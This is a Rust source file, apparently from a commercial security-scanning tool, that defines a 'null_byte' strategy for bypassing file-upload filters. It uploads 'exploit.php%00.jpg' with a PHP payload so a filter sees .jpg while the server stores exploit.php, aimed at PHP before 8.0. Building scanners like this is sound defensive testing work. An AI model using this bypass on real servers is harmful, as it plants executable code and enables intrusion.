// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use async_trait::async_trait;

use super::common::{php_payload, run_variants, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "null_byte",
    description: "Truncate the stored name at an encoded null byte",
    targets_hypotheses: &[
        HypothesisName::NullByteVulnerable,
        HypothesisName::PhpBelow8,
        HypothesisName::BlacklistFilter,
    ],
    tech_requirements: TechRequirements {
        language: Some("PHP"),
        version_min: None,
        version_max: Some("8.0"),
    },
    confidence_gain: Some(0.8),
};

/// `exploit.php%00.jpg`: the filter sees `.jpg`, the filesystem stores
/// `exploit.php`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct NullByte;

#[async_trait]
impl Strategy for NullByte {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let file = UploadFile::new("exploit.php%00.jpg", php_payload(tools.payload));
        let variants = vec![Variant::new(file).stored_as("exploit.php")];
        run_variants(context, tools, BypassTechnique::NullByte, variants).await
    }
}
